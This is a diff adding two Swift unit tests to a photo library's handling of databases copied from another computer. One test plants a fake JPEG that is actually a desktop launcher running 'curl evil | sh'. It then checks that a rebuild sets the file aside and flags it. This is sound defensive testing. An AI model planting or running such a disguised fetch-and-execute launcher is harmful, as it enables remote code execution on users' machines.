@@ -110,6 +110,43 @@ final class ForeignDatabaseTests: LibraryTestCase {
         XCTAssertEqual(try asideFiles("from-elsewhere").count, 1)
     }
 
+    func testACopyThatIsNoPhotoBesideADatabaseFromElsewhereIsSetAsideByTheRebuild() throws {
+        let peer = folder.url.appendingPathComponent("peer")
+        try peerLibrary(peer, labels: ["Lake"])
+        let photos = peer.appendingPathComponent("photos")
+        let sidecar = try XCTUnwrap(try FileManager.default.contentsOfDirectory(atPath: photos.path).first { $0.hasSuffix(".xmp") })
+        let fake = photos.appendingPathComponent(String(repeating: "1", count: 64) + ".jpeg")
+        try Data("[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n".utf8).write(to: fake)
+        let text = try String(contentsOf: photos.appendingPathComponent(sidecar), encoding: .utf8)
+        try text.replacingOccurrences(of: "Lake", with: "Launcher").write(to: URL(fileURLWithPath: fake.path + ".xmp"), atomically: true, encoding: .utf8)
+        try arrive(from: peer)
+
+        let library = try Library(directory: directory)
+
+        XCTAssertEqual(try library.photos().map(\.label), ["Lake"], "the peer's file was taken as a photo")
+        let kept = directory.appendingPathComponent("photos").appendingPathComponent(fake.lastPathComponent)
+        XCTAssertTrue(FileManager.default.fileExists(atPath: kept.path), "set aside where it is, never deleted")
+        let findings = try library.check()
+        XCTAssertTrue(findings.contains {
+            if case .setAside(let file, why: .otherContent) = $0 { file.path == kept.path } else { false }
+        }, "\(findings)")
+    }
+
+    func testARebuildStillRestoresEveryLabel() throws {
+        do {
+            let library = try Library(directory: directory)
+            for (label, photo) in zip(["Lake", "Hill", "Sea"], SamplePhotos.cameras) {
+                _ = try library.add(try candidate(photo), label: try Label(label))
+            }
+        }
+
+        let report = try LibraryRebuild.run(directory: directory)
+
+        XCTAssertEqual(report.photos, 3)
+        XCTAssertEqual(try Library(directory: directory).photos().map(\.label), ["Lake", "Hill", "Sea"])
+        XCTAssertTrue(try Library(directory: directory).check().isEmpty)
+    }
+
     func testADatabaseFromAnotherComputerArrivingBeforeTheFirstOpenIsSetAsideAndTheIndexMadeFromTheSidecars() throws {
         let peer = folder.url.appendingPathComponent("peer")
         try peerLibrary(peer, labels: ["Lake", "Hill"])
